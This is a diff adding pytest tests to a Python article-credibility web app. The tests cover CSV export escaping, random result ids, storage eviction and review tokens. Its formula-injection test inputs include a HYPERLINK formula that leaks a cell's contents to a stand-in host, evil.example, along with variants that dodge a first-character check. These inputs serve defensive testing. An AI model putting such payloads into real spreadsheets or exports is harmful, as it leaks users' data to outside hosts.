@@ -4,7 +4,7 @@ import json
 import pytest
 from credibility.webapp import reviews as rv
 from credibility.webapp import store as st
-from sqlalchemy import update
+from sqlalchemy import func, update
 
 from credibility.errors import InvalidInputError
 
@@ -263,3 +263,156 @@ def test_api_review_of_a_missing_result_and_the_token(web, monkeypatch):
 def test_a_note_with_a_nul_is_stored(store):
     scored(store, "a", "low", 0.1)
     assert rv.add_review(store, "a", "credible", "see\x00this")["note"] == "see\ufffdthis"
+
+
+# What a spreadsheet would run, and the ways around a first-character check (issue 20, 3).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+    "+1+1",
+    "@SUM(1+1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+def test_the_export_escapes_every_cell_a_reviewer_or_scorer_wrote(store, tmp_path):
+    for i, formula in enumerate(FORMULAS):
+        scored(store, f"r{i}", "low", 0.1, article=formula, kind="text", title=formula, url=formula)
+        rv.add_review(store, f"r{i}", "credible", "x" + formula)  # the note is stripped first
+    with store.engine.begin() as conn:  # a note as an older version stored it, unstripped
+        conn.execute(update(st.reviews).values(note=func.substr(st.reviews.c.note, 2)))
+    path = tmp_path / "labelled.csv"
+    rv.export_csv(store, path)
+    with path.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    escaped = ["'" + formula for formula in FORMULAS]
+    for name in ("text", "title", "url", "note"):
+        assert [row[name] for row in rows] == escaped, name
+
+
+def test_the_reviews_download_escapes_formulas(web):
+    store = web.application.extensions["credibility_store"]
+    scored(store, "a" * 32, "low", 0.1, article="Text.", kind="html", title="+cmd", url="@x")
+    rv.add_review(store, "a" * 32, "credible", '=HYPERLINK("http://evil.example","Click")')
+    (row,) = csv.DictReader(web.get("/reviews.csv").get_data(as_text=True).splitlines(True))
+    assert (row["html"], row["title"], row["url"], row["note"]) == (
+        "Text.",
+        "'+cmd",
+        "'@x",
+        '\'=HYPERLINK("http://evil.example","Click")',
+    )
+
+
+def test_result_ids_are_random_and_the_export_gives_each_article_once(web):
+    """Ids were the inputs' digest: whoever had an article's text could read its result and
+    review it (issue 20, finding 8)."""
+    import hashlib
+
+    from tests.conftest import read_fixture
+
+    text = read_fixture("news-story.txt")
+    first, second = (web.post("/api/score", json={"text": text}) for _ in range(2))
+    keys = [r.headers["X-Result-Id"] for r in (first, second)]
+    assert keys[0] != keys[1] and all(len(k) == 32 and int(k, 16) >= 0 for k in keys)
+    model = first.get_json()["model"]
+    digest = hashlib.sha256(json.dumps([model, text, "auto", "", ""]).encode()).hexdigest()
+    assert digest[:32] not in keys and web.get(f"/api/results/{digest[:32]}").status_code == 404
+    for key, verdict in zip(keys, ("credible", "not_credible"), strict=True):
+        assert web.post(f"/api/results/{key}/review", json={"verdict": verdict}).status_code == 201
+    store = web.application.extensions["credibility_store"]
+    assert [(r["text"][:20], r["label"]) for r in rv.export_rows(store)] == [
+        (text[:20], "not_credible")  # one article, its latest review
+    ]
+
+
+def test_scores_past_the_result_budget_evict_the_oldest(tmp_path):
+    from credibility.webapp import create_app
+
+    from tests.conftest import read_fixture
+
+    app = create_app({"TESTING": True, "STATE_DIR": str(tmp_path)})
+    client, store = app.test_client(), app.extensions["credibility_store"]
+    text = read_fixture("news-story.txt")
+    keys = [client.post("/api/score", json={"text": text}).headers["X-Result-Id"]]
+    store.budget_bytes = 2 * store.used()  # room for two of these results
+    keys += [client.post("/api/score", json={"text": text}).headers["X-Result-Id"] for _ in "1234"]
+    found = [client.get(f"/api/results/{key}").status_code for key in keys]
+    assert found == [404, 404, 404, 200, 200]
+    assert store.used() == store.budget_bytes
+    app.extensions["credibility_store"].close()
+
+
+def test_the_result_budget_is_configurable():
+    from credibility.webapp.policy import DEFAULTS, from_environment
+
+    assert DEFAULTS["MAX_RESULT_BYTES"] == 500_000_000
+    assert from_environment({"CREDIBILITY_MAX_RESULT_BYTES": "1_000"}) == {
+        "MAX_RESULT_BYTES": 1_000
+    }
+
+
+CLOSED = (
+    "reviews are closed: this server listens beyond loopback and no review token is set up "
+    "(CREDIBILITY_REVIEW_TOKEN)"
+)
+
+
+def test_reviews_need_a_token_beyond_loopback(tmp_path, monkeypatch):
+    from credibility.webapp import create_app
+
+    monkeypatch.delenv("CREDIBILITY_REVIEW_TOKEN", raising=False)
+    app = create_app(
+        {
+            "TESTING": True,
+            "WTF_CSRF_ENABLED": False,
+            "STATE_DIR": str(tmp_path),
+            "REVIEWS_NEED_TOKEN": True,
+        }
+    )
+    client = app.test_client()
+    key = client.post("/api/score", json={"text": "Officials said so."}).headers["X-Result-Id"]
+    refused = client.post(f"/api/results/{key}/review", json={"verdict": "credible"})
+    assert (refused.status_code, refused.get_json()) == (403, {"ok": False, "error": CLOSED})
+    page = client.post("/", data={"article": "Officials said so.", "kind": "auto"})
+    html = page.get_data(as_text=True)
+    assert "Reviews are closed on this server" in html and "review-form" not in html
+    form = client.post(f"/result/{key}/review", data={"verdict": "credible"})
+    assert form.status_code == 403 and "Reviews are closed: this server" in form.get_data(True)
+    monkeypatch.setenv("CREDIBILITY_REVIEW_TOKEN", "s3cret")
+    allowed = client.post(
+        f"/api/results/{key}/review",
+        json={"verdict": "credible"},
+        headers={"Authorization": "Bearer s3cret"},
+    )
+    assert allowed.status_code == 201
+    app.extensions["credibility_store"].close()
+
+
+@pytest.mark.parametrize(
+    "host, need",
+    [
+        ("127.0.0.1", False),
+        ("127.0.0.2", False),
+        ("localhost", False),
+        ("::1", False),
+        ("0.0.0.0", True),
+        ("::", True),
+        ("192.168.1.10", True),
+        ("example.org", True),
+    ],
+)
+def test_serve_closes_reviews_beyond_loopback_and_says_so(
+    tmp_path, monkeypatch, capsys, host, need
+):
+    from credibility.webapp import serve
+
+    monkeypatch.delenv("CREDIBILITY_REVIEW_TOKEN", raising=False)
+    seen = {}
+    monkeypatch.setattr(serve, "run_gunicorn", lambda app, *rest: seen.update(app.config) or 0)
+    monkeypatch.setattr(serve, "run_waitress", lambda app, *rest: seen.update(app.config) or 0)
+    assert serve.run(host, 8000, {"STATE_DIR": str(tmp_path)}, 1, 1) == 0
+    assert seen["REVIEWS_NEED_TOKEN"] is need
+    said = capsys.readouterr().err
+    assert (f"credibility: {CLOSED}; set it to take reviews\n" in said) is need
